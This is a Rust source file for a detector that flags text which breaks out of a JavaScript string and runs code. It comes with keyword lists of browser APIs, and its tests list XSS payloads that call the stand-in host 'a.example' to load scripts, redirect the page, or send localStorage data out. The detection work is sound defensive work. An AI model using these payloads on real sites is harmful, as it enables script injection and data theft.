//! What leaves a string of somebody else's script and runs code there: `';fetch('//a.example')//`, `"-$.get(x)-"`.
//!
//! Read by the tokens of the script, as it would be: the first quote of the text ends the string; a sign that may stand
//! behind a string; a call, an assignment or a new object of the browser's; and at the end what lets the rest of the
//! script parse: a comment, or a sign and the same quote. Prose has no such call, code has its quotes in pairs.
//! Does not see: functions that the page has (`'-app.pay()-'`), what leaves the script open at its end.

use memchr::memchr;

use super::rule::Finding;
use super::rules::cross_site_scripting as rules;
use crate::flow::code::Language;
use crate::flow::code_tokens::{Kind, Token, Tokens};
use crate::signs::Signs;

/// So far from its start the text ends the string.
const NEAR: usize = 256;
/// Bytes that are read behind that.
const READ: usize = 1024;

/// Functions of the browser, and what it loads a script by.
const FUNCTIONS: [&[u8]; 17] = [
    b"alert",
    b"atob",
    b"confirm",
    b"createelement",
    b"eval",
    b"fetch",
    b"function",
    b"import",
    b"importscripts",
    b"open",
    b"postmessage",
    b"print",
    b"prompt",
    b"queuemicrotask",
    b"setimmediate",
    b"setinterval",
    b"settimeout",
];
/// Objects of the browser and of libraries that most pages have: a call of theirs or an assignment to them.
const OBJECTS: [&[u8]; 25] = [
    b"$",
    b"angular",
    b"axios",
    b"caches",
    b"cookiestore",
    b"document",
    b"frames",
    b"globalthis",
    b"history",
    b"indexeddb",
    b"jquery",
    b"localstorage",
    b"location",
    b"navigator",
    b"onerror",
    b"onhashchange",
    b"onmessage",
    b"opener",
    b"parent",
    b"reflect",
    b"self",
    b"sessionstorage",
    b"this",
    b"top",
    b"window",
];
/// What is made to send, to load or to run.
const CLASSES: [&[u8]; 10] = [
    b"activexobject",
    b"audio",
    b"broadcastchannel",
    b"eventsource",
    b"function",
    b"image",
    b"rtcpeerconnection",
    b"sharedworker",
    b"websocket",
    b"worker",
];

/// The way out of a script's string in `text`, in lower case.
pub(super) fn find(text: &[u8], signs: Signs) -> Option<Finding> {
    let acts = signs.has(Signs::PAREN.or(Signs::BACKTICK).or(Signs::EQUALS));
    if !acts || !signs.has(Signs::QUOTE.or(Signs::BACKTICK).or(Signs::DOLLAR)) {
        return None;
    }
    let near = &text[..text.len().min(NEAR)];
    b"'\"`"
        .iter()
        .find_map(|quote| {
            let at = memchr(*quote, near)?;
            let rest = &text[at + 1..text.len().min(at + 1 + READ)];
            (follows_string(rest) && runs(rest, *quote))
                .then(|| Finding::new(&rules::CODE_BREAKOUT, at, at + 1 + rest.len()))
        })
        .or_else(|| substitution(text))
}

/// `;`, `)-`, `}]+`: may `code` stand behind a string, and begin something?
fn follows_string(code: &[u8]) -> bool {
    let is_closing = |byte: &u8| byte.is_ascii_whitespace() || b")]}".contains(byte);
    let closing = code.iter().take_while(|byte| is_closing(byte)).count();
    let rest = &code[closing..];
    rest.first()
        .is_some_and(|byte| b";,-+*/%|&^?:<>=".contains(byte))
        || closing > 0 && rest.starts_with(b"in ")
}

/// `${import('//a.example')}`: nothing but a substitution in a template.
fn substitution(text: &[u8]) -> Option<Finding> {
    let text = text.trim_ascii();
    let code = text.strip_prefix(b"${")?.strip_suffix(b"}")?;
    let mut reader = Reader::default();
    let is_short = code.len() <= READ;
    let runs =
        is_short && Tokens::new(code, Language::JavaScript).any(|token| reader.acts(code, token));
    runs.then(|| Finding::new(&rules::CODE_IN_TEMPLATE, 0, text.len()))
}

/// Does `code` act on the browser, and end so that a string in `quote` may go on?
fn runs(code: &[u8], quote: u8) -> bool {
    let mut reader = Reader::default();
    let mut runs = false;
    let mut before = None;
    let mut last: Option<Token> = None;
    for token in Tokens::new(code, Language::JavaScript) {
        runs |= reader.acts(code, token);
        before = last;
        last = Some(token);
    }
    runs && last.is_some_and(|last| match last.kind {
        Kind::Comment => true,
        Kind::Text => {
            let joins =
                |token: Token| token.kind == Kind::Operator && !b")]}.".contains(&token.first);
            !last.closed && last.first == quote && before.is_some_and(joins)
        }
        _ => false,
    })
}

/// Reads tokens one by one: which object is spoken of, and what stood last.
#[derive(Default)]
struct Reader<'t> {
    /// The first name of the chain, `document` of `document.body.x`.
    object: &'t [u8],
    /// The last name of it.
    name: &'t [u8],
    is_chained: bool,
    is_new: bool,
    /// The last sign, where it was one.
    sign: u8,
}

impl<'t> Reader<'t> {
    /// Is `token` the one by which the browser is called, given something, or made to make something?
    fn acts(&mut self, code: &'t [u8], token: Token) -> bool {
        let text = code.get(token.start..token.end).unwrap_or_default();
        match token.kind {
            Kind::Word => self.word(text),
            Kind::Operator => self.operator(code, token),
            Kind::Text => {
                let acts = token.first == b'`' && self.calls();
                self.end();
                acts
            }
            Kind::Number => {
                self.end();
                false
            }
            Kind::Comment => false,
        }
    }

    fn word(&mut self, word: &'t [u8]) -> bool {
        if word == b"new" {
            self.end();
            self.is_new = true;
            return false;
        }
        let makes = self.is_new && (CLASSES.contains(&word) || word == b"xmlhttprequest");
        self.is_new = false;
        if !self.is_chained {
            self.object = word;
        }
        self.name = word;
        self.is_chained = false;
        self.sign = 0;
        makes
    }

    fn operator(&mut self, code: &[u8], token: Token) -> bool {
        let next = code.get(token.end).copied().unwrap_or_default();
        let acts = match token.first {
            b'(' => self.calls(),
            b'=' => {
                let compares = b"=>".contains(&next) || b"=!<>".contains(&self.sign);
                !compares && OBJECTS.contains(&self.object)
            }
            _ => false,
        };
        match token.first {
            b'.' => self.is_chained = true,
            // What is called or looked up goes on being spoken of: `f(x).y`, `a[b]=c`.
            b'(' | b'[' | b')' | b']' | b'?' => {}
            _ => self.end(),
        }
        self.sign = token.first;
        acts
    }

    fn calls(&self) -> bool {
        FUNCTIONS.contains(&self.name) || OBJECTS.contains(&self.object)
    }

    fn end(&mut self) {
        (self.object, self.name) = (b"", b"");
        (self.is_chained, self.is_new, self.sign) = (false, false, 0);
    }
}

#[cfg(test)]
mod tests {
    use super::find;
    use crate::signs::Signs;

    #[test]
    fn what_leaves_a_string_and_runs_is_told() {
        let rows = [
            (
                "';x=new xmlhttprequest;x.open('get','//a.example');x.send()//",
                true,
            ),
            ("'-new image().src='//a.example/'+localstorage.t-'", true),
            ("'-$.getscript('//a.example/x.js')-'", true),
            ("\";fetch('//a.example')//", true),
            (
                "';s=document.createelement('script');s.src='//a.example';document.body.append(s)//",
                true,
            ),
            ("'-reflect.apply(alert,null,[1])-'", true),
            ("\"-prompt`1`-\"", true),
            ("x\\'});location='//a.example'//", true),
            ("';location.href='//a.example/?'+x;'", true),
            ("${import('//a.example/x')}", true),
            ("`+import(x)+`", true),
            ("it's open; fetch(it) // now", false),
            ("split(', ') + fetch(x) // both", false),
            ("x = a + ';' + fetch(url) + ';'", false),
            ("', f(x), '", false),
            ("', alert, '", false),
            ("'; if (location == x) // no", false),
            ("';fetch('//a.example')", false),
            ("${name} and ${f(x)}", false),
            ("${document.title}", false),
            ("the users'; they fetch (all)", false),
        ];
        for (text, told) in rows {
            let found = find(text.as_bytes(), Signs::of(text.as_bytes()));
            assert_eq!(found.is_some(), told, "{text}");
        }
    }
}
